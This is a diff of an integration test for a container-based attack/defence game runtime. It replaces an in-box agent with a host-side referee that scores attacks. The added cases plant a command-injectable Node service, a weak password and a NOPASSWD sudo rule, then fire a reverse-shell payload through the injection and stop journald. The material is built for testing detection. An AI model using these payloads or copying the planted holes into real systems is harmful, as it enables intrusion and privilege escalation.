@@ -2,7 +2,6 @@ import { execFile, spawn, type ChildProcess } from 'node:child_process';
 import { randomBytes, randomUUID } from 'node:crypto';
 import dgram from 'node:dgram';
 import { existsSync } from 'node:fs';
-import type { RequestListener } from 'node:http';
 import { mkdtemp, readFile, readdir, rm, stat, writeFile } from 'node:fs/promises';
 import net from 'node:net';
 import os from 'node:os';
@@ -12,13 +11,10 @@ import { expect } from 'chai';
 import { testLogger } from '../../testing/logger.ts';
 import type { BoxObservation, BoxSpec, VpnIdentity, VpnSession } from '../orchestrator.ts';
 import { ClientNamespace, VpnClient, boxHostProblem } from '../../testing/netns.ts';
-import type { AgentReport } from '../../contracts/agent.ts';
 import { LocalRuntime, type LocalRuntimeOptions } from './runtime.ts';
+import type { HostReferee, VerdictSink } from '../../referee/host.ts';
 
 const execFileAsync = promisify(execFile);
-/** Built by `make build` (test-unit makes it first). */
-const AGENT_BUNDLE = path.resolve(import.meta.dirname, '../../../../operator/dist/agent.cjs');
-type AgentEvent = AgentReport['events'][number];
 
 /**
  * The local box runtime with real parts: systemd-nspawn boxes, the two OpenVPN servers, the
@@ -86,22 +82,6 @@ describe('local box runtime on this host (real containers, OpenVPN, namespaces, 
   const machineName = (spec: BoxSpec) => `${prefix}-b${spec.slot}`;
   const ip = (spec: BoxSpec) => runtime!.boxAddress(spec.slot);
   const session = (userId: string) => runtime!.vpnSessions().find((s) => s.userId === userId);
-
-  /** What box agents sent to the agents' endpoint: the Authorization header and the events. */
-  const agentReports: { authorization: string; events: AgentEvent[] }[] = [];
-  const agentEvents = (token: string | null) =>
-    agentReports.filter((r) => r.authorization === `Bearer ${token}`).flatMap((r) => r.events);
-  /** Plays the API's agents' endpoint: stores what comes and acknowledges it. */
-  const agentHandler: RequestListener = (req, res) => {
-    let body = '';
-    req.on('data', (chunk: Buffer) => (body += chunk.toString()));
-    req.on('end', () => {
-      const { events } = JSON.parse(body) as { events: AgentEvent[] };
-      agentReports.push({ authorization: req.headers.authorization ?? '', events });
-      res.writeHead(200, { 'content-type': 'application/json' });
-      res.end(JSON.stringify({ lastSeq: events.at(-1)!.seq, stored: events.length }));
-    });
-  };
 
   /** A runtime object as the API makes it; the authorizer refuses the players in `refused`. */
   function newRuntime(): LocalRuntime {
@@ -189,14 +169,11 @@ describe('local box runtime on this host (real containers, OpenVPN, namespaces, 
       vpnTcpPort: port,
       vpnMaxClients: MAX_CLIENTS,
       stopTimeoutMs: 5000,
-      agentPort: await freePort(),
-      agentBundle: AGENT_BUNDLE,
       logger: testLogger,
     };
     runtime = newRuntime();
     await runtime.start();
     expect(runtime.status().reason, 'runtime status').to.equal(null);
-    await runtime.serveAgents(agentHandler);
     // Built once per cache directory (about a minute); later runs reuse it.
     await runtime.image.ensure();
     expect(runtime.status()).to.deep.include({ available: true });
@@ -223,6 +200,7 @@ describe('local box runtime on this host (real containers, OpenVPN, namespaces, 
     };
     for (const vpn of VpnClient.all) await attempt('stop a VPN client', () => vpn.stop());
     listener?.kill('SIGKILL');
+    if (referee) await attempt('referee.close()', () => referee!.close());
     if (runtime) await attempt('runtime.destroy()', () => runtime!.destroy());
     for (const client of clients) await attempt(`remove ${client.name}`, () => client.destroy());
 
@@ -323,12 +301,14 @@ describe('local box runtime on this host (real containers, OpenVPN, namespaces, 
       'hostname; echo "$SSH_CONNECTION"; id -u; echo kept > /root/marker; stat -c %a /; ' +
         'runuser -u nobody -- cat /etc/hostname; timeout 10 systemctl is-system-running --wait >/dev/null; ' +
         'systemctl is-active dbus systemd-logind ssh | tr "\\n" " "; echo; ' +
-        'stat -c %a /etc/exploit-grid/agent.token; cat /etc/exploit-grid/agent.token',
+        'ls /etc/exploit-grid; systemctl is-enabled exploit-grid-agent 2>&1 | tail -n 1',
       {
         password: aliceBox.rootPassword,
       },
     );
-    const [hostname, connection, uid, rootMode, asNobody, units, tokenMode, token] = out.trim().split('\n');
+    const [hostname, connection, uid, rootMode, asNobody, units, platformFiles, agent] = out
+      .trim()
+      .split('\n');
     expect(hostname).to.equal('alice-box');
     expect(connection!.split(' ')[0]).to.equal(session(users.alice)!.vpnAddress);
     expect(connection!.split(' ')[2]).to.equal(ip(aliceBox));
@@ -337,9 +317,9 @@ describe('local box runtime on this host (real containers, OpenVPN, namespaces, 
     expect(rootMode, 'mode of / in the box').to.equal('755');
     expect(asNobody, 'nobody reading /etc/hostname').to.equal('alice-box');
     expect(units!.trim(), 'dbus, logind and ssh').to.equal('active active active');
-    // The agent's secret is in the box, for root only.
-    expect(tokenMode).to.equal('600');
-    expect(token).to.equal(aliceBox.agentToken);
+    // No agent and no secret in the box: the referee watches from the host.
+    expect(platformFiles, 'the platform’s files in the box').to.equal('network');
+    expect(agent).to.not.equal('enabled');
     // Bob over TCP to his own box.
     const bobOut = await bob.ssh(ip(bobBox), 'hostname; echo "$SSH_CONNECTION"', {
       password: bobBox.rootPassword,
@@ -348,50 +328,17 @@ describe('local box runtime on this host (real containers, OpenVPN, namespaces, 
     expect(bobOut.trim().split('\n')[1]!.split(' ')[0]).to.equal(session(users.bob)!.vpnAddress);
   });
 
-  it('runs the box agent: every program start reaches the agents’ endpoint with its VPN peer', async function () {
-    this.timeout(60_000);
-    const peer = session(users.alice)!.vpnAddress;
-    // Short-lived commands (the exec hook), one that lasts (the /proc scan), in a known directory;
-    // the session stays open past a heartbeat.
-    const held = alice.ssh(ip(aliceBox), 'cd /tmp && id && uname -a >/dev/null && sleep 6', {
-      password: aliceBox.rootPassword,
-    });
-    const execs = await until('the commands of Alice’s session', async () => {
-      const found = agentEvents(aliceBox.agentToken).filter(
-        (e): e is Extract<AgentEvent, { kind: 'exec' }> => e.kind === 'exec' && e.peer === peer,
-      );
-      const commands = found.map((e) => e.command);
-      return ['id', 'uname -a', 'sleep 6'].every((c) => commands.includes(c)) ? found : undefined;
-    });
-    const id = execs.find((e) => e.command === 'id')!;
-    expect(id).to.include({ uid: 0, user: 'root', cwd: '/tmp', source: 'hook' });
-    expect(id.chain.map((p) => p.command).join(' | ')).to.match(/sshd/);
-    // Heartbeats name the sessions held.
-    await until(
-      'a heartbeat with Alice’s session',
-      async () =>
-        agentEvents(aliceBox.agentToken).some(
-          (e) => e.kind === 'heartbeat' && e.sessions.some((s) => s.peer === peer && s.uid === 0),
-        ),
-      10_000,
-    );
-    await held;
-    // Each program start once, whichever part of the agent saw it first.
-    expect(
-      agentEvents(aliceBox.agentToken).filter((e) => e.kind === 'exec' && e.command === 'sleep 6'),
-    ).to.have.length(1);
-    // Nothing comes from Bob's box (it has no agent secret).
-    expect(agentReports.every((r) => r.authorization === `Bearer ${aliceBox.agentToken}`)).to.equal(true);
-    // Boxes reach the agents' endpoint through their gateway, and nothing else outside the arena.
+  it('runs no agent in boxes: a box reaches nothing outside the arena, the gateway and host included', async () => {
     const gateway = runtime!.router.routerArenaAddress;
     const host = runtime!.router.hostTransitAddress;
     const reach = await alice.ssh(
       ip(aliceBox),
-      `for t in ${gateway}/80 ${host}/${options.agentPort} ${host}/22 ${gateway}/22; do ` +
-        `timeout 2 bash -c "exec 3<>/dev/tcp/\${t%/*}/\${t#*/}" 2>/dev/null && echo open || echo closed; done`,
+      `for t in ${gateway}/80 ${host}/8089 ${host}/22 ${gateway}/22; do ` +
+        `timeout 2 bash -c "exec 3<>/dev/tcp/\${t%/*}/\${t#*/}" 2>/dev/null && echo open || echo closed; done; ` +
+        "pgrep -f 'node.*agent[.]cjs' || echo no-agent",
       { password: aliceBox.rootPassword },
     );
-    expect(reach.trim().split('\n')).to.deep.equal(['open', 'closed', 'closed', 'closed']);
+    expect(reach.trim().split('\n')).to.deep.equal(['closed', 'closed', 'closed', 'closed', 'no-agent']);
   });
 
   it('lets the owner in with their SSH key; a wrong password is refused', async () => {
@@ -534,6 +481,197 @@ describe('local box runtime on this host (real containers, OpenVPN, namespaces, 
     expect(await alice.canConnect(ip(aliceBox), 22), 'Alice after the window expired').to.equal(true);
   });
 
+  /**
+   * The referee (docs/detection.md) watches Alice's box from the host while Bob attacks it. Each
+   * trick a player would try is a case; verdicts land in a recording sink.
+   */
+  // ---- the referee ----
+  let referee: HostReferee | undefined;
+  const verdicts: { attackId: string; kind: string; detail: string }[] = [];
+  const sink: VerdictSink = {
+    running: async () => [],
+    recordCommand: async (attackId, c) => {
+      verdicts.push({ attackId, kind: `COMMAND uid=${c.uid} ${c.user} ${c.cwd}`, detail: c.command });
+      return true;
+    },
+    recordFoothold: async (attackId, message) => {
+      verdicts.push({ attackId, kind: 'FOOTHOLD', detail: message });
+      return true;
+    },
+    recordEviction: async (attackId, message) => {
+      // As the attack service does: an eviction only after a foothold.
+      if (of(attackId).some((v) => v.kind === 'FOOTHOLD'))
+        verdicts.push({ attackId, kind: 'EVICTED', detail: message });
+    },
+    recordOwn: async (attackId, message) => {
+      verdicts.push({ attackId, kind: 'OWN', detail: message });
+      return true;
+    },
+  };
+  const of = (attackId: string) => verdicts.filter((v) => v.attackId === attackId);
+  const asOwner = (script: string, params: string[] = []) =>
+    alice.ssh(ip(aliceBox), script, { password: aliceBox.rootPassword }, params);
+  const DEV_PASSWORD = 'hunter2-dev';
+
+  /** A new attack by Bob on Alice's box: its window and the referee's watch. */
+  async function attack(): Promise<string> {
+    const referee = await refereeReady();
+    const id = randomUUID();
+    await runtime!.openAttackWindow(users.bob, aliceBox.id, new Date(Date.now() + 120_000));
+    await referee.watch({
+      id,
+      attacker: { id: users.bob, handle: 'bob' },
+      target: { id: users.alice, handle: 'alice' },
+      box: {
+        id: aliceBox.id,
+        hostname: aliceBox.hostname,
+        ip: ip(aliceBox),
+        status: 'RUNNING',
+        openPorts: {},
+      },
+      outcome: 'PENDING',
+      winnerId: null,
+      loserId: null,
+      mmrChange: null,
+      rated: true,
+      createdAt: new Date().toISOString(),
+      endsAt: new Date(Date.now() + 120_000).toISOString(),
+      endedAt: null,
+    });
+    return id;
+  }
+  async function end(id: string): Promise<void> {
+    await referee!.settled();
+    referee!.unwatch(id);
+    await runtime!.closeAttackWindow(users.bob, aliceBox.id);
+  }
+  /** What the referee made of everything so far, once the tracer's lines are read and judged. */
+  async function judged(id: string) {
+    await sleep(300);
+    await referee!.settled();
+    return of(id);
+  }
+
+  /** The referee and the defender's services, made once for the referee's cases. */
+  async function refereeReady(): Promise<HostReferee> {
+    if (referee) return referee;
+    referee = runtime!.referee(sink);
+    await referee.start();
+    // The defender's services: a user with a weak password, a root service that forks for each
+    // connection (no new program), a long-lived root web server, and a page with a command
+    // injection run as www-data (with a careless sudo rule).
+    const injection = `require('http').createServer((req, res) => {
+      const host = new URL(req.url, 'http://box').searchParams.get('host') || '';
+      require('child_process').spawn('sh', ['-c', 'ping -c 1 ' + host], { detached: true, stdio: 'ignore' }).unref();
+      res.end('pinged\\n');
+    }).listen(8080);`;
+    const forking = `use IO::Socket::INET; $SIG{CHLD}='IGNORE';
+      my $s = IO::Socket::INET->new(LocalPort => 9000, Listen => 5, ReuseAddr => 1) or die;
+      while (my $c = $s->accept) { if (!fork) { print $c "hello\\n"; sleep 2; exit 0 } close $c }`;
+    const web = `require('http').createServer((req, res) => res.end('ok\\n')).listen(9001);`;
+    await asOwner(
+      [
+        'id dev >/dev/null 2>&1 || useradd -m -s /bin/bash dev',
+        `echo "dev:${DEV_PASSWORD}" | chpasswd`,
+        'systemd-run --quiet --unit=pingsvc --uid=www-data -p WorkingDirectory=/tmp /usr/bin/node -e "$1"',
+        'systemd-run --quiet --unit=forking /usr/bin/perl -e "$2"',
+        'systemd-run --quiet --unit=web /usr/bin/node -e "$3"',
+        'echo "www-data ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/ops && chmod 440 /etc/sudoers.d/ops',
+        'for p in 8080 9000 9001; do for i in $(seq 150); do (exec 3<>/dev/tcp/127.0.0.1/$p) 2>/dev/null && continue 2; sleep 0.1; done; echo "port $p never opened" >&2; exit 1; done',
+      ].join('\n'),
+      [injection, forking, web],
+    );
+    return referee;
+  }
+
+  it('sees nobody’s shell in a bare connection to sshd, to a forking root service or in a request to a root web server', async () => {
+    const id = await attack();
+    await Promise.all([
+      bob.holdConnection(ip(aliceBox), 22, 1500),
+      bob.holdConnection(ip(aliceBox), 9000, 1500),
+      bob.httpGet(`http://${ip(aliceBox)}:9001/`),
+    ]);
+    // The owner works on their own box meanwhile, as root.
+    await asOwner('cd /root && id >/dev/null && ls >/dev/null');
+    expect(await judged(id)).to.deep.equal([]);
+    await end(id);
+  });
+
+  it('counts a user’s ssh shell as a FOOTHOLD, su waiting at its prompt as nothing more, su with the password as OWNED', async () => {
+    const id = await attack();
+    await bob.ssh(
+      ip(aliceBox),
+      'cd /tmp && id >/dev/null; timeout 2 script -qc "su root -c id" /dev/null < <(sleep 3) >/dev/null; true',
+      { password: DEV_PASSWORD, user: 'dev' },
+    );
+    let seen = await judged(id);
+    expect(seen.map((v) => v.kind))
+      .to.include('FOOTHOLD')
+      .and.not.include('OWN');
+    expect(seen.find((v) => v.kind === 'FOOTHOLD')!.detail).to.match(/^User shell as dev: /);
+    expect(seen.some((v) => v.kind === 'COMMAND uid=1000 dev /tmp' && v.detail === 'id')).to.equal(true);
+    expect(seen.some((v) => v.detail.startsWith('su root'))).to.equal(true);
+
+    await bob.ssh(
+      ip(aliceBox),
+      `(sleep 1; echo "$1") | script -qc "su root -c 'id; sleep 1'" /dev/null >/dev/null; true`,
+      { password: DEV_PASSWORD, user: 'dev' },
+      [aliceBox.rootPassword],
+    );
+    seen = await judged(id);
+    const own = seen.filter((v) => v.kind === 'OWN');
+    expect(own.length).to.be.at.least(1);
+    expect(seen.some((v) => v.kind.startsWith('COMMAND uid=0 root') && v.detail === 'id')).to.equal(true);
+    await end(id);
+  });
+
+  it('holds a reverse shell as a FOOTHOLD though the defender stops every daemon, until the defender kills it; sudo is OWNED', async () => {
+    const id = await attack();
+    const listen = async (port: number) => {
+      const shell = await bob.listenForShell(port);
+      const payload = `;bash -c 'bash -i >& /dev/tcp/${session(users.bob)!.vpnAddress}/${port} 0>&1'`;
+      await bob.httpGet(`http://${ip(aliceBox)}:8080/?host=${encodeURIComponent(payload)}`);
+      await shell.connected;
+      return shell;
+    };
+    const shell = await listen(4444);
+    expect(await shell.run('id')).to.include('uid=33(www-data)');
+    let seen = await judged(id);
+    expect(seen.map((v) => `${v.kind} ${v.detail}`).join('\n')).to.include('FOOTHOLD');
+    expect(seen.find((v) => v.kind === 'FOOTHOLD')!.detail).to.match(/^User shell as www-data: /);
+    expect(seen.some((v) => v.kind.startsWith('COMMAND uid=33 www-data') && v.detail === 'id')).to.equal(
+      true,
+    );
+
+    // The defender stops everything that looks like it could be watching, and firewalls nothing.
+    await asOwner(
+      "systemctl stop systemd-journald systemd-journald.socket 2>/dev/null; pkill -f '[a]gent'; true",
+    );
+    await sleep(1200);
+    seen = await judged(id);
+    expect(seen.map((v) => v.kind)).to.not.include('EVICTED');
+
+    await asOwner('pkill -KILL -u www-data; true');
+    await shell.closed;
+    await until('the eviction', async () => (await judged(id)).at(-1)!.kind === 'EVICTED', 5000).catch(
+      async () => expect.fail(JSON.stringify(await judged(id), null, 1)),
+    );
+    await asOwner(
+      'systemctl restart pingsvc; for i in $(seq 50); do (exec 3<>/dev/tcp/127.0.0.1/8080) 2>/dev/null && break; sleep 0.1; done',
+    );
+
+    const again = await listen(4445);
+    await again.run('sudo -n id');
+    seen = await judged(id);
+    expect(seen.filter((v) => v.kind === 'OWN')).to.have.length.at.least(1);
+    expect(seen.find((v) => v.kind === 'OWN')!.detail).to.match(/^Root shell: id/);
+    again.close();
+    await end(id);
+    await asOwner(
+      'systemctl start systemd-journald.socket systemd-journald; systemctl stop pingsvc forking web; rm -f /etc/sudoers.d/ops',
+    );
+  });
+
   it('adopts running boxes and VPN sessions after an API restart', async function () {
     this.timeout(90_000);
     const aliceNspawn = await nspawnMain(boxDir(aliceBox));
@@ -544,7 +682,6 @@ describe('local box runtime on this host (real containers, OpenVPN, namespaces, 
     runtime = newRuntime();
     await runtime.start();
     expect(runtime.status().reason).to.equal(null);
-    await runtime.serveAgents(agentHandler);
     // Learned again from the management interface before anything else happened.
     expect(session(users.alice), 'Alice’s session after the restart').to.deep.include({
       protocol: 'UDP',
@@ -726,22 +863,14 @@ describe('local box runtime on this host (real containers, OpenVPN, namespaces, 
       'ssh after the restart',
       () =>
         alice
-          .ssh(
-            ip(aliceBox),
-            'cat /root/marker /root/marker2; hostname; stat -c %F /etc/exploit-grid; cat /etc/exploit-grid/agent.token',
-            { password: aliceBox.rootPassword },
-          )
+          .ssh(ip(aliceBox), 'cat /root/marker /root/marker2; hostname; stat -c %F /etc/exploit-grid', {
+            password: aliceBox.rootPassword,
+          })
           .catch(() => undefined),
       10_000,
       500,
     );
-    expect(again.trim().split('\n')).to.deep.equal([
-      'kept',
-      'again',
-      'alice-box',
-      'directory',
-      aliceBox.agentToken,
-    ]);
+    expect(again.trim().split('\n')).to.deep.equal(['kept', 'again', 'alice-box', 'directory']);
     expect(existsSync(hostTrap), 'the host path the box pointed at').to.equal(false);
   });
 
